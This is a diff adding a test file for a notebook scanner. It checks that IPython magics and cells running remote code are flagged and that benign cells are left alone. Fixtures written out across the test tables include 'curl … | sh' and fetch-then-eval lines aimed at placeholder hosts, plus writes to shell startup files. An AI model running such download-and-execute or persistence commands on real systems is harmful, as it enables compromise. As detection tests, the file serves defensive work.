@@ -1,0 +1,84 @@
+// Magics of IPython: as lines, as cells, and called by name.
+import { describe, expect, it } from 'vitest';
+import { inspectBytes } from '../../support/inspect.ts';
+
+async function saidOf(source: string): Promise<string[]> {
+  const cell = { cell_type: 'code', execution_count: 1, metadata: {}, outputs: [], source };
+  const text = JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 }, null, 1);
+  const { findings } = await inspectBytes(Buffer.from(text), 'train.ipynb');
+  return findings
+    .filter(({ severity }) => severity !== 'INFO' && severity !== 'LOW')
+    .map(({ rule, severity }) => `${severity} ${rule}`);
+}
+
+const PIPED = 'curl -s https://x.example.invalid/i.sh | sh';
+const EVALUATED = "fetch('https://x.example.invalid/x.js').then(r => r.text()).then(eval)";
+
+describe('a magic that is called by name', () => {
+  it.each([
+    [`get_ipython().run_cell("!${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
+    [`get_ipython().run_cell("%%bash\\n${PIPED}\\n")`, 'HIGH CODE-PIPE-SHELL'],
+    [`get_ipython().magic("sx ${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
+    [`ip = get_ipython()\nip.magic("%system ${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
+    [`ip = get_ipython()\nip.system("${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
+    [`get_ipython().run_cell_magic("bash", "", "${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
+    ['get_ipython().magic("run https://x.example.invalid/x.py")', 'HIGH NOTEBOOK-REMOTE-CODE'],
+    ['ip.run_line_magic("run", "https://x.example.invalid/x.py")', 'HIGH NOTEBOOK-REMOTE-CODE'],
+    [
+      'get_ipython().run_line_magic("pip", "install https://198.51.100.7/a-1.0.tar.gz")',
+      'MEDIUM PACKAGE-NEW-HOST',
+    ],
+  ])('is read: %s', async (source, said) => {
+    expect(await saidOf(source)).toEqual([said]);
+  });
+
+  it.each([
+    'get_ipython().run_cell("x = 1")',
+    'get_ipython().run_line_magic("matplotlib", "inline")',
+    'get_ipython().magic("load_ext autoreload")',
+    'get_ipython().run_line_magic("run", "helpers.py")',
+    'get_ipython().run_line_magic("pip", "install -q numpy")',
+    'print("use .magic(\'run\') for that")',
+  ])('is let be: %s', async (source) => {
+    expect(await saidOf(source)).toEqual([]);
+  });
+});
+
+describe('a page of a cell', () => {
+  it.each([
+    [`%%html\n<p>x</p>\n<script>\n${EVALUATED}\n</script>`, 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
+    [`%%HTML\n<img src=x onerror="${EVALUATED}">`, 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
+    [`%%javascript\n${EVALUATED}`, 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
+    [`from IPython.display import Javascript\nJavascript("${EVALUATED}")`, 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
+  ])('is read: %s', async (source, said) => {
+    expect(await saidOf(source)).toEqual([said]);
+  });
+
+  it.each([
+    '%%html\n<style>.output { width: 100% }</style>\n<script>draw()</script>',
+    '%%svg\n<svg><circle r="3"/></svg>',
+    '%%javascript\nIPython.notebook.kernel.execute("name = 1")',
+    'from IPython.display import Javascript\nJavascript("IPython.notebook.save_checkpoint()")',
+  ])('is let be: %s', async (source) => {
+    expect(await saidOf(source)).toEqual([]);
+  });
+});
+
+describe('a file that a cell writes', () => {
+  it.each([
+    '~/.zshenv',
+    '/etc/profile.d/x.sh',
+    '-a ~/.bash_aliases',
+    '.vscode/tasks.json',
+    '~/.ipython/profile_default/ipython_kernel_config.py',
+  ])('starts by itself: %s', async (path) => {
+    expect(await saidOf(`%%writefile ${path}\nx = 1`)).toContain('HIGH NOTEBOOK-STARTUP-WRITE');
+  });
+
+  it.each(['profile.py', 'configs/systemd.md', '.env.example', 'data/.gitignore'])(
+    'does not: %s',
+    async (path) => {
+      expect(await saidOf(`%%writefile ${path}\nx = 1`)).toEqual([]);
+    },
+  );
+});
